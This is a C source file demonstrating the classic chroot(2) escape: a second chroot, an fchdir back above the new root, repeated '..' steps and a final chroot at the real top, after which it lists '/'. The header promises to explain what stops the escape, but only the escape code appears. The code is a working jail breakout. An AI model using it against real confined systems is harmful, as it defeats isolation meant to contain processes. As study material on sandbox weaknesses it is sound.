/* escape.c: the classic way out of a chroot, and what stops it.
 *
 * chroot(2) changes where path lookups start, not the working
 * directory, and it does not stack: a second chroot into a subdirectory,
 * with our cwd left above it, puts us outside the root, and ".." then
 * climbs to the real "/". Run as root (it needs CAP_SYS_CHROOT), it prints
 * the top directory it reached. Build: gcc -static -o escape escape.c
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
	int here = open(".", O_RDONLY | O_DIRECTORY);

	mkdir("escape-dir", 0755);
	if (here == -1 || chroot("escape-dir") == -1) {
		perror("chroot");
		return 1;
	}
	fchdir(here);			/* cwd is now outside the new root */
	for (int i = 0; i < 64; i++)	/* ".." stops at the real top */
		chdir("..");
	chroot(".");			/* and make it our root */

	DIR *dir = opendir("/");
	struct dirent *d;
	while (dir && (d = readdir(dir)))
		if (d->d_name[0] != '.')
			printf("%s\n", d->d_name);
	return 0;
}
